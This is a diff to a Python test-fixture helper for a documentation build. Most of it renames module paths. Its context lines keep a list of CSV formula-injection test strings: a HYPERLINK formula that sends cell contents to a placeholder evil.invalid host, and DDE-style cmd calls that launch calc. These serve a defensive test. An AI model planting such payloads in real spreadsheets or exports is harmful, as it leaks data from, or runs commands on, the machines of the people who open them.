@@ -62,7 +62,7 @@ CSV_TRIGGERS = ("=HYPERLINK(\"https://evil.invalid/?\"&A1,\"x\") ", "+1+cmd|' /C
                 "@SUM(1+1)*cmd|' /C calc'!A0 ", "\t=1+1 ", "\r=1+1 ")
 
 # Digit-free (each digit written as a letter a-j), so that text under the rule against numbers typed
-# by hand (macros/typed.py: glossary definitions) can carry markers too.
+# by hand (macros/data/typed.py: glossary definitions) can carry markers too.
 MARKER = re.compile(r"hx([a-j]+)p([a-j]+)x")
 _DIGITS = str.maketrans("0123456789", "abcdefghij")
 _LETTERS = str.maketrans("abcdefghij", "0123456789")
@@ -143,7 +143,7 @@ def _load(path: Path) -> dict:
 def _dump(path: Path, doc: dict) -> None:
     text = yaml.safe_dump(doc, sort_keys=False, allow_unicode=True, width=10**6)
     if path.name == "sources.yml":
-        # Dumping drops comments, and an undated source needs one saying why (macros/data.py).
+        # Dumping drops comments, and an undated source needs one saying why (macros/data/load.py).
         text = re.sub(r"(?m)^(  [^ #][^:]*:)\n", "\\1\n    # A maintainers' note the dump would drop.\n", text)
     path.write_text(text, encoding="utf-8")
 
@@ -245,15 +245,15 @@ def _inert_data(project: Path, c: Corpus, n) -> None:
 
     # The text a chart function writes: title and description (its docstring), an axis
     # title, and bar labels from data labels (the equipment labels above).
-    charts = project / "macros/charts.py"
+    charts = project / "macros/charts/catalog.py"
     code = charts.read_text(encoding="utf-8")
-    title = c.add("chart", f"macros/charts.py {CHART} title (docstring)")
-    desc = c.add("chart", f"macros/charts.py {CHART} description (docstring)")
+    title = c.add("chart", f"macros/charts/catalog.py {CHART} title (docstring)")
+    desc = c.add("chart", f"macros/charts/catalog.py {CHART} description (docstring)")
     # A backslash in a title is refused (Vega-Lite writes titles into expressions): see
     # the refused project.
-    axis = c.add("chart", f"macros/charts.py {CHART} axis title", skip=("backslash_break",))
+    axis = c.add("chart", f"macros/charts/catalog.py {CHART} axis title", skip=("backslash_break",))
     for old in (_CHART_HEAD, _CHART_ROWS, _CHART_AXIS):
-        assert code.count(old) == 1, f"macros/charts.py changed: {old[:60]!r}"
+        assert code.count(old) == 1, f"macros/charts/catalog.py changed: {old[:60]!r}"
     code = code.replace(_CHART_HEAD, f'    r"""{title}\n    {desc}\n    """')
     code = code.replace(_CHART_ROWS, '    rows = [fact(d, d.fig(ref), d.fig(ref).label, share=axis_value(d.fig(ref)), '
                                      'group=NAMES["japan"])')
@@ -266,7 +266,7 @@ def _inert_glossary(project: Path, c: Corpus, n) -> None:
     # Glossary: definitions of terms the pages use.
     gloss = _load(project / "data/glossary.yml")
     for term in ("METI", "Rapidus"):
-        # Digit-free: a definition is prose, where a typed number stops the build (macros/typed.py).
+        # Digit-free: a definition is prose, where a typed number stops the build (macros/data/typed.py).
         gloss["terms"][term] = c.add("glossary", f"data/glossary.yml terms.{term}", digit_free=True)
     _dump(project / "data/glossary.yml", gloss)
 
@@ -391,7 +391,7 @@ def make_refused(project: Path) -> list[Refusal]:
         src_lines += [f"  bad-url-{i}:", "    title: Hostile url", "    publisher: Nobody", f"    url: {_q(url)}",
                       "    date: 2025-12-26"]
         cases.append(Refusal(f"source url: {url.split(':')[0] or url[:8]}", "data/sources.yml", len(src_lines) - 1,
-                             f"sources.bad-url-{i}.url", "_is_url (http/https only)"))
+                             f"sources.bad-url-{i}.url", "is_url (http/https only)"))
     path.write_text("\n".join(src_lines) + "\n", encoding="utf-8")
 
     # Claim ids.
@@ -529,10 +529,10 @@ def make_page_refused(project: Path) -> list[Refusal]:
 
 def make_chart_refused(project: Path) -> list[Refusal]:
     """Mutate one chart function per case; each must stop the build at the line that does it."""
-    path = project / "macros/charts.py"
+    path = project / "macros/charts/catalog.py"
     code = path.read_text(encoding="utf-8")
     for _, old, new, _, _ in CHART_CASES:
-        assert code.count(old) == 1, f"macros/charts.py changed: {old[:60]!r}"
+        assert code.count(old) == 1, f"macros/charts/catalog.py changed: {old[:60]!r}"
         code = code.replace(old, new)
     path.write_text(code, encoding="utf-8")
     lines = code.split("\n")
@@ -540,5 +540,5 @@ def make_chart_refused(project: Path) -> list[Refusal]:
     for chart, _, _, needle, what in CHART_CASES:
         start = next(n for n, text in enumerate(lines, 1) if text.startswith(f"def {chart}("))
         line = next(n for n, text in enumerate(lines, 1) if n > start and needle in text)
-        out.append(Refusal(f"chart {chart}: {what}", "macros/charts.py", line, what, "macros/charts.py checks"))
+        out.append(Refusal(f"chart {chart}: {what}", "macros/charts/catalog.py", line, what, "macros/charts/catalog.py checks"))
     return out
